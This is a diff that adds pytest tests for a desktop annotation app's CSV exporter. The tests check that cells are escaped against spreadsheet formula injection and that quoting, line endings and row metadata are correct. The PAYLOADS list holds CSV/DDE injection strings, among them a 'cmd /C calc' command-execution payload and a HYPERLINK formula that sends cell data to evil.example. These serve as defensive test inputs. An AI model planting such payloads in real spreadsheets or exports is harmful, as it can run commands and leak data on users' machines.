@@ -1,0 +1,126 @@
+"""The table of annotations: what a spreadsheet reads back, and that nothing in it runs."""
+
+from __future__ import annotations
+
+import csv
+import io
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+
+from db.records import Anchor, AnchorState
+from desktop.errors import ExportFailed
+from desktop.exporters import exporter
+from desktop.exporters.document import Document, Exported, Options
+from desktop.exporters.files import export_files
+from desktop.exporters.merge import merge_export
+from desktop.exporters.to_csv import COLUMNS, safe_cell
+from desktop.library.saving import write_export
+from tests.exporters.make import THEMES, content_of, document, mark
+from tests.exporters.test_to_markdown import SOURCE, sample
+
+PAYLOADS = [
+    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"look\")", "=WEBSERVICE(A1)", "==bold==",
+    "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "@x", "=", "+", "-",
+    "- a list", "--", "@", "\t=1+1", "\tplain", "\r=1+1", "\rplain", "\r\n=1+1", "\n=1+1", "\x00=1+1", "\x00plain",
+    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", " =1+1", "   =1+1", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1",
+    "\u200b=1+1", "\u202e=1+1", "\u2066@x", "\u2028=1+1", "=1+1\",=2+2", "=\ud83d", "+\x00", "=DDE(\"a\";\"b\";\"c\")",
+]  # fmt: skip
+HARMLESS = ["", "plain", "a=b", "1+1", '"=1+1"', "x\n=1+1", "日本", "'=1+1", "a, b", "…-", "(=)"]
+
+
+def rows_of(exported: Exported) -> list[dict[str, str]]:
+    data = exported.data
+    assert data.startswith(b"\xef\xbb\xbf")
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))
+
+
+def table(document_: Document, **options: str) -> list[dict[str, str]]:
+    return rows_of(exporter("csv").write(document_, Options(**options)))
+
+
+def with_note(note: str) -> Document:
+    return document(SOURCE, [mark(content_of(SOURCE.encode()), "five firms", note, ["t1"])])
+
+
+def test_there_are_payloads_enough() -> None:
+    assert len(set(PAYLOADS)) >= 40
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_no_cell_begins_like_a_formula(payload: str) -> None:
+    cell = safe_cell(payload)
+    assert cell.startswith("'")
+    assert "\x00" not in cell and "\r" not in cell
+    cell.encode("utf-8")  # no half character
+    made = with_note(payload)
+    made = replace(made, article=replace(made.article, title=payload, author=payload))
+    made = replace(made, themes=THEMES | {"t1": replace(THEMES["t1"], name=payload)})
+    (row,) = table(made)
+    assert {row[name] for name in ("article", "author", "note", "themes")} == {cell}
+    assert not any(value[:1] in ("=", "+", "-", "@", "\t") for value in row.values())
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_every_other_cell_stays_as_it_is(text: str) -> None:
+    assert safe_cell(text) == text
+
+
+def test_a_cell_of_several_lines_with_quotes_and_commas_comes_back() -> None:
+    note = "She said \"no\", then\nleft; 'why'?\n\n| a | b |"
+    (row,) = table(with_note(note))
+    assert row["note"] == note
+
+
+def test_lines_end_as_the_standard_says_and_those_of_a_cell_do_not() -> None:
+    text = exporter("csv").write(with_note("one\r\ntwo\rthree"), Options()).text
+    assert text.count("\r\n") == 2
+    assert "one\ntwo\nthree" in text
+    assert text.replace("\r\n", "").count("\r") == 0
+
+
+def test_half_characters_and_nul_are_shown_as_lost() -> None:
+    (row,) = table(with_note("a\x00b\ud83dc"))
+    assert row["note"] == "a\ufffdb\ufffdc"
+
+
+def test_a_row_says_all_that_is_known() -> None:
+    source = f"{SOURCE}\n## Later\n\n### Last\n\nOnly five workers stayed.\n"
+    content = content_of(source.encode())
+    one = mark(content, "five workers", "n", ["t2", "t1", "gone"])
+    (row,) = table(document(source, [one], title="Money"))
+    assert tuple(row) == COLUMNS
+    assert (row["article"], row["author"], row["source"]) == ("Money", "A. Writer", "ai-race.md")
+    assert (row["quote"], row["themes"], row["state"]) == ("five workers", "Talent, Investment", "IN_PLACE")
+    assert content.text[int(row["start"]) : int(row["end"])] == "five workers"
+    assert (row["link"], row["id"]) == (f"postil://a/{one.id}", one.id)
+    assert (row["created"], row["modified"]) == (one.created, one.modified)
+    assert row["heading"] == "Later › Last"
+
+
+def test_an_orphan_has_no_place_and_links_are_left_out_where_none_are_wanted() -> None:
+    one = replace(mark(content_of(SOURCE.encode()), "five firms"), anchor=Anchor(AnchorState.ORPHAN, None, None, 0.0))
+    (row,) = table(document(SOURCE, [one]), links="none")
+    assert [row[name] for name in ("state", "start", "end", "heading", "link")] == ["ORPHAN", "", "", "", ""]
+
+
+def test_an_article_without_annotations_gives_the_head_alone() -> None:
+    assert exporter("csv").write(document(SOURCE), Options()).text == ",".join(COLUMNS) + "\r\n"
+
+
+def test_every_theme_can_have_a_table_of_its_own() -> None:
+    files = export_files(exporter("csv"), sample(), Options(files="theme"))
+    assert len(files) == 4
+    assert all(name.endswith(".csv") and rows_of(made) for name, made in files)
+
+
+def test_a_table_that_is_there_is_replaced_only_where_that_is_said(tmp_path: Path) -> None:
+    path = tmp_path / "out.csv"
+    exported = exporter("csv").write(sample(), Options())
+    write_export(path, exported)
+    with pytest.raises(ExportFailed, match="written anew each time"):
+        merge_export(sample(), Options(), path.read_bytes(), exporter_id="csv", memory=exported.remembered)
+    with pytest.raises(ExportFailed, match="already"):
+        write_export(path, exported)
+    write_export(path, exported, force=True)
